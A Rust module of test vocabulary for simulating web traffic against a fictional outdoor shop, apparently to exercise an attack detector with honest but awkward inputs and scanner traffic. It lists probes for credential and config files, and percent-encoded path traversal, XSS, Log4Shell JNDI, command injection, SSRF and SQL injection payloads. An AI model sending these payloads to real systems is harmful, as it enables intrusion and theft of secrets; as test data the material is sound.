//! The vocabulary of the simulation: what clients call themselves and ask for.
//!
//! Payloads are the textbook forms of each attack class, written for this
//! project. Honest text is chosen to be awkward: it holds the words, quotes and
//! scripts that a careless rule takes for an attack.

/// Browsers; `{}` is replaced by a version.
pub(crate) const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:{}.0) Gecko/20100101 Firefox/{}.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{}.0) Gecko/20100101 Firefox/{}.0",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Mobile Safari/537.36",
];

/// The shop's own apps; `{}` is replaced by a minor version.
pub(crate) const APPS: &[&str] = &[
    "TideBook/5.{}.0 (iPhone; iOS 18.3.1; Scale/3.00)",
    "TideBook/5.{}.2 (iPhone; iOS 17.7; Scale/2.00)",
    "TideBook/5.{}.1 (Android 15; Pixel 8) okhttp/4.12.0",
    "TideBook/5.{}.0 (Android 13; SM-A536B) okhttp/4.12.0",
    "Dalvik/2.1.0 (Linux; U; Android 12; Redmi Note 11 Build/SKQ1.{})",
];

/// Honest agents that look odd.
pub(crate) const ODD_AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux armv7l) \"Kiosk 7\" AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36",
    "TideBook/5.9.1 (O'Neill's iPad; iPadOS 17.5)",
    "Mozilla/5.0 (PlayStation; PlayStation 5/8.60) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "Opera/9.80 (Android; Opera Mini/36.2.2254/119.132; U; id) Presto/2.12.423 Version/12.16",
];

/// Search engines.
pub(crate) const SEARCH_BOTS: &[&str] = &[
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
];

/// Search-optimisation bots.
pub(crate) const SEO_BOTS: &[&str] = &[
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
];

/// Uptime monitors.
pub(crate) const MONITORS: &[&str] = &[
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Amazon-Route53-Health-Check-Service (ref 5b1c0f6e; report http://amzn.to/1vsZADi)",
];

pub(crate) const CATEGORIES: &[&str] = &[
    "kayaks",
    "wetsuits",
    "lamps",
    "tents",
    "day-trips",
    "union-square",
    "select-series",
    "drop-in-classes",
    "gift-cards",
    "maps",
];

/// What people type into the search box, percent-encoded.
pub(crate) const SEARCHES: &[&str] = &[
    "kayak",
    "tent%20for%204",
    "dry%20bag%2020l",
    "paddle",
    "wetsuit%20size%20m",
    "stove",
    "headlamp",
    "map%20of%20the%20coast",
    "life%20jacket",
    "rope%2010m",
];

/// Searches and names a careless rule takes for an attack, percent-encoded.
pub(crate) const ODD_SEARCHES: &[&str] = &[
    "O%27Brien",
    "d%27Angelo%20%26%20sons",
    "Dun%20Laoghaire%20%2B%20Howth",
    "select%20your%20seat%20from%20the%20front%20row",
    "student%20union%20trip",
    "drop%20table%20lamp",
    "order%20by%20phone",
    "where%20to%20insert%20batteries",
    "update%20my%20booking%20set%20for%20two",
    "kayak%20or%20canoe%20and%20paddle",
    "50%25%20off",
    "%3C3%20gift",
    "C%2B%2B%20%26%20C%23%20meetup",
    "rock%20%27n%27%20roll%20cruise",
    "5%20%3E%203%20nights",
    "cat%20and%20mouse%20puzzle",
    "ping%20pong%20table",
    "%D0%B1%D0%B0%D0%B9%D0%B4%D0%B0%D1%80%D0%BA%D0%B0",
    "%E3%82%AB%E3%83%A4%E3%83%83%E3%82%AF",
    "%D9%82%D8%A7%D8%B1%D8%A8",
    "%E7%9A%AE%E5%88%92%E8%89%87",
    "%F0%9F%9B%B6%20%F0%9F%8C%8A",
    "caf%C3%A9%20%C3%A0%20la%20plage",
    "%C2%BFd%C3%B3nde%20est%C3%A1%3F",
];

/// Query strings with odd but honest text.
pub(crate) const ODD_QUERIES: &[&str] = &[
    "filter=%7B%22price%22%3A%7B%22lt%22%3A20%7D%2C%22in_stock%22%3Atrue%7D",
    "utm_source=newsletter&utm_campaign=spring_sale_50%25&_ga=2.118.51-77.1&gclid=Cj0KCQiA-x_lD",
    "next=https%3A%2F%2Fwww.tidebook.example%2Faccount%3Ftab%3Dorders",
    "q=fish%20%26%20chips&sort=-price,name&fields[]=id&fields[]=name",
    "name=Se%C3%A1n%20O%27Casey&note=%22ring%20twice%22",
    "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl",
    "text=please%20select%20two%20seats%20from%20row%20five%20--%20thanks!",
    "when=2026-03-02T08%3A00%3A00%2B01%3A00&tz=Europe/Dublin",
];

pub(crate) const FILES: &[&str] =
    &["notes...txt", "terms-2026.pdf", "map%20(final).pdf", "report.v2.1.csv", "photo_0042.jpeg"];

/// Paths only somebody looking for a mistake asks for.
pub(crate) const SENSITIVE_PATHS: &[&str] = &[
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/.htpasswd",
    "/.svn/entries",
    "/.DS_Store",
    "/.env.production",
    "/.npmrc",
    "/.docker/config.json",
    "/config.php.bak",
    "/wp-config.php.bak",
    "/backup.sql",
    "/dump.sql.gz",
    "/database.sqlite",
    "/web.config",
    "/phpinfo.php",
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/adminer.php",
    "/manager/html",
    "/actuator/env",
    "/actuator/heapdump",
    "/server-status",
    "/jenkins/script",
    "/solr/admin/info/system",
    "/console/login/LoginForm.jsp",
    "/shell.php",
    "/c99.php",
    "/cmd.jsp",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/test-cgi",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/_ignition/execute-solution",
    "/debug/pprof/heap",
    "/terraform.tfstate",
];

/// Folders a scanner tries each sensitive path in.
pub(crate) const FOLDERS: &[&str] = &[
    "", "/api", "/admin", "/old", "/backup", "/app", "/public", "/v1", "/dev", "/test", "/site",
    "/www",
];

/// Attack strings a scanner puts into a path segment, percent-encoded.
pub(crate) const PATH_PAYLOADS: &[&str] = &[
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fwindows%252fwin.ini",
    "..%c0%af..%c0%afetc%c0%afshadow",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%22%3E%3Csvg%20onload%3Dalert(document.domain)%3E",
    "%24%7Bjndi%3Aldap%3A%2F%2F198.18.255.1%2Fa%7D",
    "%3Bcat%20%2Fetc%2Fpasswd",
    "%60id%60",
    "%7B%7B7*7%7D%7D",
    "php%3A%2F%2Ffilter%2Fresource%3Dindex.php",
];

/// Attack strings a scanner puts into the query.
pub(crate) const QUERY_PAYLOADS: &[&str] = &[
    "file=../../../../etc/passwd",
    "page=php://filter/convert.base64-encode/resource=index.php",
    "q=%3Cscript%3Ealert(1)%3C/script%3E",
    "url=http://169.254.169.254/latest/meta-data/",
    "x=%24%7Bjndi:ldap://198.18.255.1/a%7D",
    "host=127.0.0.1%3Bcat+/etc/passwd",
    "name=%7B%7B7*7%7D%7D",
    "cmd=id",
    "id=1%27%20OR%20%271%27=%271",
    "redirect=javascript:alert(1)",
];

/// SQL injection in textbook form. `#` becomes a number, `~` the tool's way to write a blank.
pub(crate) const SQL_PAYLOADS: &[&str] = &[
    "#%27~AND~#%3D#--~",
    "#%27~OR~%27#%27%3D%27#",
    "#)~ORDER~BY~#--~-",
    "#%27~UNION~ALL~SELECT~NULL%2CNULL%2CNULL--~-",
    "-#~UNION~SELECT~1%2Cversion()%2C3--~",
    "#%3BSELECT~PG_SLEEP(5)--",
    "#%27~AND~(SELECT~#~FROM~(SELECT(SLEEP(5)))a)--~",
    "#%27%3B~WAITFOR~DELAY~%270%3A0%3A5%27--",
    "#~AND~EXTRACTVALUE(#%2CCONCAT(0x5c%2Cversion()))",
    "#%27~UNION~SELECT~table_name~FROM~information_schema.tables--~",
    "#%27~AND~#%3DCONVERT(int%2C%40%40version)--",
    "#~RLIKE~(SELECT~(CASE~WHEN~(#%3D#)~THEN~1~ELSE~0x28~END))",
];

/// The agents of the scanners.
pub(crate) const NIKTO: &str = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000042)";
pub(crate) const NUCLEI: &str = "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)";
pub(crate) const SQLMAP: &str = "sqlmap/1.8.4#stable (https://sqlmap.org)";
